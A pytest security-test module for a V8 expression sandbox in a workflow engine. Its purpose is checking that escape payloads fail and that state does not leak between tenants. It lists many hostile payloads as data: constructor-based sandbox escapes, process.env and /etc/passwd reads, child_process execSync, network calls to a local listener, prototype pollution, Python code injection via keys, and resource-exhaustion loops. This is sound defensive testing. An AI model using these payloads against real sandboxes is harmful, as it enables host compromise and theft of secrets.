"""X1: the expression escape corpus (see ../shared RELIABILITY.md, security test X1).

Every payload goes through the path nodes use (``V8ExpressionEngine.compile`` then ``evaluate``),
on the engine with its Python fast path and on V8 alone. Each one ends in an ``ExpressionError``
(within the sandbox's time limit; pytest-timeout stops a hang) or in a value that is harmless by
JavaScript's own rules (``typeof require`` is "undefined"). Whatever it ends in, nothing reaches
the host: the marker file a payload tries to write never exists, a canary put in ``os.environ``
never appears in a result or an error, and a listening socket sees no connection.

The second half checks that nothing one evaluation (or execution) does is visible to the next:
globals, prototypes, RegExp's legacy statics, state stashed on the cached function, and callbacks
(toJSON, timers, microtasks) that would run after the call's clean-up.
"""

from __future__ import annotations

import os
import secrets
import socket
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from relayflow.errors import ExpressionError
from relayflow.expressions import Limits, V8ExpressionEngine
from relayflow.expressions.code import run_js
from relayflow.testing import make_engine, node_workflow, run_workflow
from relayflow.workflow.parse import parse_workflow
from tests.unit.expressions.conftest import ev, one, scope

pytestmark = pytest.mark.timeout(120)

ERROR = object()  # the case must end in an ExpressionError
CANARY_NAME = "RELAYFLOW_X1_CANARY"


@pytest.fixture(scope="module", params=["fast", "v8"])
def sandbox(request: pytest.FixtureRequest) -> Iterator[V8ExpressionEngine]:
    """Tight limits, so endless loops and allocations end quickly; with and without the fast path."""
    limits = Limits(timeout_base_s=0.5, timeout_per_item_s=0, memory_bytes=128 * 1024 * 1024, max_contexts=2)
    eng = V8ExpressionEngine(limits, fast_path=request.param == "fast")
    yield eng
    eng.close()


@dataclass
class Host:
    """What a payload could reach: a file path, an environment variable and a TCP listener."""

    marker: Path
    canary: str
    listener: socket.socket

    @property
    def port(self) -> int:
        port: int = self.listener.getsockname()[1]
        return port

    def payload(self, template: str) -> str:
        return (
            template.replace("MARKER", str(self.marker))
            .replace("PORT", str(self.port))
            .replace("CANARY", CANARY_NAME)
        )

    def assert_untouched(self, *seen: object) -> None:
        assert not self.marker.exists(), "a payload created the marker file"
        for thing in seen:
            assert self.canary not in repr(thing), "the environment canary reached a result"
        try:
            conn, _ = self.listener.accept()
        except BlockingIOError:
            return
        conn.close()
        raise AssertionError("a payload opened a network connection")


@pytest.fixture
def host(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Host]:
    canary = "canary-" + secrets.token_hex(12)
    monkeypatch.setenv(CANARY_NAME, canary)
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.setblocking(False)
    h = Host(tmp_path / "x1-marker", canary, listener)
    try:
        yield h
        h.assert_untouched()
    finally:
        listener.close()


async def outcome(eng: V8ExpressionEngine, template: str, s: Any = None) -> tuple[bool, Any]:
    """(True, value) or (False, the error's text)."""
    try:
        return True, await one(eng, template, s)
    except ExpressionError as exc:
        return False, str(exc)


# host objects, module loaders, the network, timers and code-from-strings: all end in an error
ESCAPES = [
    "require('fs').writeFileSync('MARKER', 'x')",
    "process.env.CANARY",
    "process.env",
    "process.binding('fs')",
    "process.mainModule.require('child_process').execSync('touch MARKER')",
    "globalThis.process.env.CANARY",
    "global.process.env",
    "this.process.env",
    "module.require('fs')",
    "(() => {}).constructor('return process')()",
    "(() => {}).constructor('return process')().env.CANARY",
    "this.constructor.constructor('return process')().env",
    "({}).constructor.constructor('return process')().mainModule",
    "[].constructor.constructor('return require')()('fs')",
    "$json.constructor.constructor('return process')().env",
    "$json.__proto__.constructor.constructor('return require')()('fs')",
    "Function('return this')().process.env",
    "Function('return require')()('fs').writeFileSync('MARKER', 'x')",
    "new Function('return process.env')()",
    "(function* () {}).constructor('yield process')().next().value.env",
    "Object.getPrototypeOf(async function () {}).constructor('return process')()",
    "eval('process.env')",
    "eval('require')('fs')",
    "(0, eval)('this').process.env",
    "eval('import(\"fs\")')",
    "import('fs')",
    "import('node:fs').then(fs => fs.writeFileSync('MARKER', 'x'))",
    "import('file://MARKER')",
    "import('http://127.0.0.1:PORT/x.js')",
    "new Function('return import(\"fs\")')()",
    "fetch('http://127.0.0.1:PORT/')",
    "new XMLHttpRequest().open('GET', 'http://127.0.0.1:PORT/')",
    "new WebSocket('ws://127.0.0.1:PORT/')",
    "navigator.sendBeacon('http://127.0.0.1:PORT/', 'x')",
    "importScripts('http://127.0.0.1:PORT/x.js')",
    "WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))",
    "Deno.readTextFileSync('/etc/passwd')",
    "Bun.file('/etc/passwd').text()",
    "Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 1)",
    "setInterval(() => 1, 1)",
    "queueMicrotask(() => 1)",
    "$env.CANARY",
    "$env['CANARY']",
    "Object.keys($env)",
    "'CANARY' in $env",
    "$env",
    '__rf.dispatch(\'{"op":"check","src":"1"}\')',
    "__rf.lock('mine')",
    "__rf.addOp('x', () => 1)",
    # endless work: the time limit ends it
    "(() => { while (true) {} })()",
    "(() => { for (;;) {} })()",
    "(() => { let i = 0; do { i++ } while (i >= 0) })()",
    "new Promise(() => { while (true) {} })",
    "(async () => { while (true) await 0 })(), 1",
    "new FinalizationRegistry(() => { while (true) {} }).register({}, 1)",
    "(function f() { return f() })()",
    "(function f(n) { return f(n + 1) + 1 })(0)",
    "JSON.parse('['.repeat(1e6) + ']'.repeat(1e6))",
    # a result V8 serialises but that nests deeper than the host reads (orjson: 1,024 levels)
    "(() => { let a = []; for (let i = 0; i < 2000; i++) a = [a]; return a })()",
    "/(a+)+$/.test('a'.repeat(40) + 'b')",
    # huge allocations: the size guards or the memory limit end them
    "'x'.repeat(1e9)",
    "'x'.repeat(2 ** 26).repeat(4)",
    "'x'.padStart(1e9)",
    "new Array(1e9).fill(0)",
    "Array(1e9).join('x')",
    "Array.from({ length: 1e9 }, () => 0)",
    "new Array(2 ** 32 - 1).slice(0)",
    "new ArrayBuffer(1e9)",
    "new Float64Array(1e9)",
    "(() => { const a = []; while (true) a.push('x'.repeat(1e6) + a.length) })()",
    "(() => { const a = []; while (true) a.push(new Array(1e5).fill(a.length)) })()",
    # a result that cannot leave the sandbox as data
    "Promise.resolve(1)",
    "(() => { const a = {}; a.self = a; return a })()",
    "({ toJSON() { throw new Error('nope') } })",
]


@pytest.mark.parametrize("payload", ESCAPES)
async def test_escape_ends_in_an_expression_error(
    sandbox: V8ExpressionEngine, host: Host, payload: str
) -> None:
    ok, got = await outcome(sandbox, "{{ " + host.payload(payload) + " }}")
    assert not ok, f"expected an ExpressionError, got {got!r}"
    host.assert_untouched(got)
    # the context that ran it (or its replacement) still answers
    assert await one(sandbox, "{{ [1, 2].map(x => x * 2) }}") == [2, 4]


# payloads JavaScript answers with a harmless value
HARMLESS: list[tuple[str, Any]] = [
    (
        "[typeof require, typeof process, typeof global, typeof module, typeof exports, typeof Buffer]",
        ["undefined"] * 6,
    ),
    (
        "[typeof fetch, typeof XMLHttpRequest, typeof WebSocket, typeof navigator, typeof importScripts]",
        ["undefined"] * 5,
    ),
    (
        "[typeof WebAssembly, typeof Deno, typeof Bun, typeof Atomics, typeof SharedArrayBuffer]",
        ["undefined"] * 5,
    ),
    (
        "[typeof setInterval, typeof setImmediate, typeof queueMicrotask, typeof gc, typeof __timer_manager]",
        ["undefined"] * 5,
    ),
    ("typeof globalThis.process", "undefined"),
    ("[typeof FinalizationRegistry, typeof WeakRef]", ["undefined", "function"]),
    ("typeof this.require", "undefined"),
    ("typeof Function('return this')().process", "undefined"),
    ("typeof (0, eval)('this').require", "undefined"),
    ("Object.keys(globalThis)", ["__timer_manager", "setTimeout", "clearTimeout"]),
    ("Object.getOwnPropertyNames(globalThis).filter(n => /env|process|require|fetch|file/i.test(n))", []),
    ("typeof Function('return typeof process')()", "string"),
    # prototype pollution: refused silently (sloppy mode) or loudly, never effective
    ("Object.prototype.polluted = 1", 1),
    ("(Object.prototype.polluted = 1, ({}).polluted)", None),
    ("(({}).__proto__.polluted = 1, [].polluted)", None),
    ("($json.__proto__.polluted = 1, ({}).polluted)", None),
    ("(Array.prototype.push = null, typeof [].push)", "function"),
    ("(JSON.parse = () => 'hacked', JSON.parse('1'))", 1),
    ("(Math.max = () => 'hacked', Math.max(1, 2))", 2),
    ('(Object.assign({}, JSON.parse(\'{"__proto__": {"polluted": 1}}\')), ({}).polluted)', None),
    ('JSON.parse(\'{"__proto__": {"polluted": 1}}\').polluted', None),
    ("(Error.prepareStackTrace = () => 'hacked', typeof new Error('x').stack)", "string"),
    (
        "(() => { try { Object.defineProperty(Object.prototype, 'p', { value: 1 }) } catch (e) { return e.name } })()",
        "TypeError",
    ),
    (
        "(() => { try { Object.setPrototypeOf(Object.prototype, {}) } catch (e) { return e.name } })()",
        "TypeError",
    ),
    # the data's own keys, never Python attributes or dunders (the fast path answers most of these)
    ("$json.__class__", None),
    ("$json.__globals__", None),
    ("$json.__dict__", None),
    ("$json.__init__", None),
    ("$json['__class__']", None),
    ("$json['__cl' + 'ass__']", None),
    ("$json.s.__class__", None),
    ("$json.n.__class__", None),
    ("$json.list.__class__", None),
    ("$json.__class__?.__init__?.__globals__", None),
    ("$vars.__class__", None),
    ("$execution.__class__", None),
    ("$workflow.__globals__", None),
    ("$input.item.json.__class__", None),
    ("$json.constructor", None),
    ("$json.constructor.name", "Object"),
    ("$json.__proto__", {}),
    ("$json.s.constructor.name", "String"),
    # generated Python source: quotes and newlines in keys and text stay data
    ("$json[\"a'] + __import__('os').system('touch MARKER') + ['\"]", None),
    ("$json['\\n__import__(\"os\")']", None),
    ('\'); open("MARKER", "w") #\'', '); open("MARKER", "w") #'),
]


@pytest.mark.parametrize(("payload", "expected"), HARMLESS)
async def test_harmless_payload_answers_as_javascript_does(
    sandbox: V8ExpressionEngine, host: Host, payload: str, expected: Any
) -> None:
    s = scope([{"s": "text", "n": 1, "list": [1]}])
    ok, got = await outcome(sandbox, "{{ " + host.payload(payload) + " }}", s)
    assert ok, got
    assert got == host.payload(expected) if isinstance(expected, str) else got == expected
    host.assert_untouched(got)
    # and the next evaluation sees pristine intrinsics
    after = "{{ [({}).polluted, [].polluted, [1].map(x => x + 1), JSON.parse('2'), Math.max(1, 2)] }}"
    assert await one(sandbox, after) == [None, None, [2], 2, 2]


@pytest.mark.parametrize(
    "template",
    [
        "{{ $json.__class__ }}",
        "{{ $json['__globals__'] }}",
        "{{ $json.a.__class__ }}",
        "{{ $json.a?.__init__?.__globals__ }}",
        "{{ $json[$json.k] }}",
        "{{ $vars.__class__ }}",
        "{{ $input.item.json.__dict__ }}",
    ],
)
async def test_the_python_fast_path_reads_data_never_attributes(template: str) -> None:
    """These compile to generated Python (fastgen): a key is looked up in the item's dict, never
    as an attribute, so a dunder name is just a missing key (undefined), as in JavaScript."""
    eng = V8ExpressionEngine()
    try:
        compiled = eng.compile(template)
        assert compiled.batch is not None, "expected the fast path to take this template"
        got = await ev(eng, template, scope([{"a": {"b": 1}, "k": "__class__"}]))
        assert got == [None]
    finally:
        eng.close()


async def test_text_around_expressions_stays_text(sandbox: V8ExpressionEngine, host: Host) -> None:
    # the fast path generates Python source from the template: its text parts must stay literals
    template = host.payload("=x'''\"\"\"\\'); open('MARKER', 'w') #\n{{ $json.a }}\\n{{ $json['b\\'c'] }}'''")
    got = await one(sandbox, template[1:], scope([{"a": 1, "b'c": 2}]))
    assert got == host.payload("=x'''\"\"\"\\'); open('MARKER', 'w') #\n1\\n2'''")[1:]
    host.assert_untouched(got)


async def test_json_proto_key_is_data_not_a_prototype(sandbox: V8ExpressionEngine) -> None:
    # an item whose JSON carries "__proto__" (as a webhook body could) holds it as an own key
    s = scope([{"__proto__": {"polluted": "yes"}, "constructor": {"prototype": {"polluted": "yes"}}}])
    got = await one(
        sandbox, "{{ [$json.__proto__.polluted, ({}).polluted, $json.polluted, [].polluted] }}", s
    )
    assert got == ["yes", None, None, None]
    assert await one(sandbox, "{{ ({}).polluted }}") is None


async def test_env_canary_never_appears_through_a_workflow(host: Host) -> None:
    """The runtime hands ``$env`` over only when the operator allows it (not here)."""
    wf = node_workflow(
        "relayflow.set",
        {
            "assignments": [
                {"name": "a", "value": "={{ $env." + CANARY_NAME + " }}", "type": "string"},
            ],
            "include": "all",
        },
    )
    engine = make_engine()
    try:
        record = await run_workflow(wf, input=[{}], engine=engine)
    finally:
        engine.expressions.close()  # type: ignore[union-attr]
    assert record.status.value == "failed"
    assert "access to env vars denied" in repr(record.error)
    host.assert_untouched(record.error, [run.output for run in record.runs_of("Node")])


# ---- isolation between evaluations and executions (X9 flavour) ------------------------------------


async def test_globals_do_not_survive_an_evaluation(sandbox: V8ExpressionEngine) -> None:
    plant = (
        "{{ (() => { globalThis.kept = 'secret'; this.kept2 = 'secret'; leaked = 'secret'; "
        "Object.defineProperty(globalThis, 'kept3', { value: 'secret', configurable: false }); return 1 })() }}"
    )
    ok, _ = await outcome(sandbox, plant)
    assert ok
    got = await one(sandbox, "{{ [typeof kept, typeof kept2, typeof leaked, typeof kept3] }}")
    assert got == ["undefined"] * 4


async def test_the_cached_function_carries_no_state(sandbox: V8ExpressionEngine) -> None:
    # the same template twice runs the same compiled function: `arguments.callee` reaches it
    counter = "{{ (() => { const me = arguments.callee; me.n = (me.n || 0) + 1; return me.n })() }}"
    stash = "{{ (function (me) { const was = me.prototype.seen; me.prototype.seen = $json.v; return was })(arguments.callee) }}"
    v8 = "{{ (arguments.callee.n = (arguments.callee.n || 0) + 1) }}"
    for template in (counter, v8):
        assert [await one(sandbox, template) for _ in range(3)] in ([1, 1, 1], [None] * 3)
    assert await one(sandbox, stash, scope([{"v": "first tenant's data"}])) is None
    assert await one(sandbox, stash, scope([{"v": "second"}])) is None


async def test_regexp_statics_do_not_carry_the_previous_match(sandbox: V8ExpressionEngine) -> None:
    s = scope([{"email": "alice.secret@example.com"}])
    assert await one(sandbox, "{{ $json.email.match(/^([^@]+)@/)[1] }}", s) == "alice.secret"
    got = await one(
        sandbox, "{{ [RegExp.$1, RegExp.lastMatch, RegExp.input, RegExp.leftContext, RegExp.rightContext] }}"
    )
    assert got == [""] * 5


async def test_callbacks_cannot_outlive_their_call(sandbox: V8ExpressionEngine) -> None:
    # a toJSON, a microtask and a timer set by one evaluation: none acts in the next one
    plant = (
        "{{ ({ toJSON() { globalThis.fromJson = 1; setTimeout(() => { globalThis.late = 1 }, 0); "
        "Promise.resolve().then(() => { globalThis.micro = 1; setTimeout(() => { globalThis.later = 1 }, 0) }); "
        "return 'planted' } }) }}"
    )
    assert await one(sandbox, plant) == "planted"
    got = await one(sandbox, "{{ [typeof fromJson, typeof late, typeof micro, typeof later] }}")
    assert got == ["undefined"] * 4


async def test_no_callback_can_drive_the_dispatcher(sandbox: V8ExpressionEngine) -> None:
    """A toJSON or a timer left by one tenant's expression must not take (or replace) another
    tenant's Code node result: the dispatcher only answers Python."""
    attack = (
        "{{ ({ toJSON() { const me = this; const tick = () => { let r; "
        'try { r = __rf.dispatch(\'{"op":"poll"}\') } catch (e) { r = String(e) } '
        "if (String(r).includes('victim')) me.stolen = r; else setTimeout(tick, 1) }; "
        "setTimeout(tick, 1); Promise.resolve().then(tick); "
        'try { return __rf.dispatch(\'{"op":"check","src":"1"}\') } catch (e) { return \'refused\' } } }) }}'
    )
    ok, got = await outcome(sandbox, attack)
    assert not ok or got == "refused", got
    if isinstance(got, str):
        assert "not available" in got or got == "refused"
    victim = "await new Promise(r => setTimeout(r, 30)); return [{json: {secret: 'victim-data'}}]"
    for _ in range(3):  # whichever pooled context the attack ran in
        out = await run_js(sandbox, scope([{}]), victim, mode="all", kind="code", timeout_s=10)
        assert out.ok, out.error
        assert out.result == [{"json": {"secret": "victim-data"}}]


async def test_code_node_function_carries_no_state(sandbox: V8ExpressionEngine) -> None:
    code = "const me = arguments.callee; const was = me.stash; me.stash = $json.v; return [{json: {was: was ?? null}}]"
    first = await run_js(sandbox, scope([{"v": "tenant A"}]), code, mode="all", kind="code", timeout_s=10)
    second = await run_js(sandbox, scope([{"v": "tenant B"}]), code, mode="all", kind="code", timeout_s=10)
    for out in (first, second):
        assert out.ok, out.error
        assert out.result == [{"json": {"was": None}}]


async def test_batch_items_do_not_see_each_others_globals(engine: V8ExpressionEngine) -> None:
    # within one call the items share a context: a global is visible (as in n8n), but not after
    s = scope([{"v": i} for i in range(3)])
    got = await ev(engine, "{{ (globalThis.seen = (globalThis.seen || 0) + 1) }}", s)
    assert got == [1, 2, 3]
    assert await one(engine, "{{ typeof seen }}") == "undefined"


async def test_state_does_not_leak_between_executions(host: Host) -> None:
    """Two executions on one engine (as a worker runs them): the second sees nothing of the first."""
    params = {
        "assignments": [
            {
                "name": "seen",
                "value": "={{ (() => { const was = [typeof globalThis.stash, ({}).stash, RegExp.$1]; "
                "globalThis.stash = $json.secret; Object.prototype.stash = $json.secret; "
                "/(.+)/.exec($json.secret); return was })() }}",
                "type": "array",
            }
        ],
        "include": "all",
    }
    wf = parse_workflow(node_workflow("relayflow.set", params))
    engine = make_engine()
    try:
        for secret in ("execution one's secret", "execution two's secret"):
            record = await run_workflow(wf, input=[{"secret": secret}], engine=engine)
            assert record.status.value == "succeeded", record.error
            out = record.runs_of("Node")[-1].output
            assert out is not None
            assert out[0][0]["json"]["seen"] == ["undefined", None, ""]
    finally:
        engine.expressions.close()  # type: ignore[union-attr]
    host.assert_untouched()


async def test_an_endless_microtask_chain_costs_only_its_own_call() -> None:
    eng = V8ExpressionEngine(
        Limits(timeout_base_s=0.5, timeout_per_item_s=0, max_contexts=1), fast_path=False
    )
    try:
        for _ in range(3):
            with pytest.raises(ExpressionError):
                await one(eng, "{{ (async () => { while (true) await 0 })() }}")
            assert await one(eng, "{{ [1, 2].map(x => x * 2) }}") == [2, 4]
    finally:
        eng.close()


@pytest.mark.parametrize(
    ("chain", "endless"),
    [
        ("(async () => { while (true) await 0 })(), 1", True),
        ("(() => { const f = () => Promise.resolve().then(f); f(); return 1 })()", True),
        # timers die with the call that set them: this chain stops by itself
        ("(() => { const f = () => setTimeout(f, 0); f(); return 1 })()", False),
        ("(async function* () { while (true) yield 0 })().next().then((r) => r.value), 1", False),
    ],
)
async def test_leftover_microtasks_end_the_call_that_queued_them(chain: str, endless: bool) -> None:
    """A call whose own value is fine but whose microtasks never end: the time limit of that call
    (not of the next one, maybe another execution's) stops them."""
    eng = V8ExpressionEngine(
        Limits(timeout_base_s=0.5, timeout_per_item_s=0, max_contexts=1), fast_path=False
    )
    try:
        ok, got = await outcome(eng, "{{ " + chain + " }}")
        if endless:
            assert not ok and "time limit" in got, got
        else:
            assert (ok, got) == (True, 1)
        assert await one(eng, "{{ [1, 2].map(x => x * 2) }}") == [2, 4]
    finally:
        eng.close()


async def test_leftover_microtasks_of_a_code_node_end_its_own_run() -> None:
    eng = V8ExpressionEngine(Limits(max_contexts=1), fast_path=False)
    try:
        # synchronous code (no await: the run ends with the first call) and asynchronous code
        for spin in (
            "const f = () => Promise.resolve().then(f); f(); return [{json: {n: 1}}]",
            "(async () => { while (true) await 0 })(); return [{json: {n: 1}}]",
        ):
            out = await run_js(eng, scope([{}]), spin, mode="all", kind="code", timeout_s=0.5)
            assert not out.ok and out.timed_out, out
        legit = "let n = 0; for (let i = 0; i < 10000; i++) n += await i; return [{json: {n}}]"
        out = await run_js(eng, scope([{}]), legit, mode="all", kind="code", timeout_s=10)
        assert out.ok, out.error
        assert out.result == [{"json": {"n": 49995000}}]
        assert await one(eng, "{{ [1, 2].map(x => x * 2) }}") == [2, 4]
    finally:
        eng.close()


async def test_a_microtask_that_fixes_a_global_closes_its_context(sandbox: V8ExpressionEngine) -> None:
    # a non-deletable global, created after the call's clean-up: the next call must not see it
    plant = (
        "{{ (Promise.resolve().then(() => Object.defineProperty(globalThis, 'leak', "
        "{ value: 'secret', configurable: false })), 'planted') }}"
    )
    for _ in range(3):  # whichever pooled context it ran in
        assert await one(sandbox, plant) == "planted"
        assert await one(sandbox, "{{ typeof leak }}") == "undefined"


def test_the_canary_is_in_the_environment(host: Host) -> None:
    """The environment checks above mean something: the canary is really there to be found."""
    assert os.environ[CANARY_NAME] == host.canary
